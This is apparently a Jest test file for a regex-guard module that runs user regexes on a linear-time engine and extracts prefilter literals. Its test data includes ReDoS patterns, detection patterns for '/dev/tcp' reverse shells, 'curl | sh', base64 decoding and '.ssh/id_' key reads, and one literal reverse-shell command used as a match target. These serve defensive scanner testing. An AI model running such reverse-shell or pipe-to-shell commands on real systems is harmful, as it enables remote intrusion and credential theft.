import { compileGuardedRegex, MAX_REGEX_LENGTH, requiredLiteral, unsafeRegexReason } from "./regex-guard";

describe("regex-guard - linear-time engine", () => {
  // Each of these takes exponential time on a backtracking engine (V8's RegExp):
  // 2^30 steps for the 30-character input. On RE2 they finish at once; a hang here
  // would time the suite out, so the test fails if the engine ever backtracks.
  test.each(["^(a+)+$", "^(a*)*$", "^(a|a)*$", "^(a|aa)+$", "^(\\w+\\s?)*$", "(.*a){12}$", "(x+x+)+y"])(
    "accepts and runs %s in linear time on a hostile input",
    (pattern) => {
      const regex = compileGuardedRegex(pattern, "");
      expect(regex.test(`${"a".repeat(30)}!`)).toBe(false);
      expect(regex.test(`${"a".repeat(60_000)}!`)).toBe(false);
    },
  );

  test("refuses what RE2 cannot run in linear time, with the reason", () => {
    expect(unsafeRegexReason("(a)\\1")).toMatch(/invalid escape sequence: `\\1`.*linear-time engine/);
    expect(unsafeRegexReason("(?<=a)b")).toMatch(/invalid named capture|invalid or unsupported Perl syntax/);
    expect(unsafeRegexReason("(?!a)b")).toMatch(/invalid or unsupported Perl syntax/);
    expect(unsafeRegexReason("a++")).toMatch(/invalid nested repetition operator/);
    expect(unsafeRegexReason("x".repeat(MAX_REGEX_LENGTH + 1))).toMatch(/longer than/);
    expect(unsafeRegexReason("/dev/(tcp|udp)/[0-9.]+/\\d+")).toBeUndefined();
  });

  test("i, m and s flags and inline (?i)", () => {
    expect(compileGuardedRegex("^bash", "").test("BASH -i")).toBe(false);
    expect(compileGuardedRegex("^bash", "i").test("BASH -i")).toBe(true);
    expect(compileGuardedRegex("(?i)^bash", "").test("BASH -i")).toBe(true);
    expect(compileGuardedRegex("^b$", "").test("a\nb")).toBe(false);
    expect(compileGuardedRegex("^b$", "m").test("a\nb")).toBe(true);
    expect(compileGuardedRegex("a.b", "").test("a\nb")).toBe(false);
    expect(compileGuardedRegex("a.b", "s").test("a\nb")).toBe(true);
  });
});

describe("regex-guard - required literal (a prefilter that must never reject a match)", () => {
  test.each<[string, string | undefined]>([
    ["/dev/tcp/[0-9.]+/\\d+", "/dev/tcp/"],
    ["(?i)curl .*\\| *(ba)?sh", "curl "],
    ["base64 -d", "base64 -d"],
    ["ab?cdef", "cdef"],
    ["abc*defg", "defg"],
    ["x{0,3}yz", "yz"],
    ["xy{2}zzz", "zzz"],
    ["a|bcdef", undefined],
    ["(foo|bar)baz", "baz"],
    ["[[:alpha:]]]xyz", "]xyz"],
    ["\\x41\\x42", undefined],
    ["\\Qa.b\\E", undefined],
    ["\\.ssh/id_", ".ssh/id_"],
    ["AbC", "abc"],
  ])("%s → %s", (pattern, literal) => {
    expect(requiredLiteral(pattern)).toBe(literal);
  });

  test("every string a pattern matches contains its literal (lower-cased)", () => {
    const cases: [string, string][] = [
      ["/dev/tcp/[0-9.]+/\\d+", "bash -i >& /DEV/TCP/10.0.0.1/4444"],
      ["ab?cdef", "xacdefx"],
      ["xy{2}zzz", "xyyzzz"],
      ["[[:alpha:]]]xyz", "q]xyz"],
    ];
    for (const [pattern, text] of cases) {
      const regex = compileGuardedRegex(pattern, "i");
      expect(regex.test(text)).toBe(true);
      expect(text.toLowerCase().includes(regex.literal as string)).toBe(true);
    }
  });
});
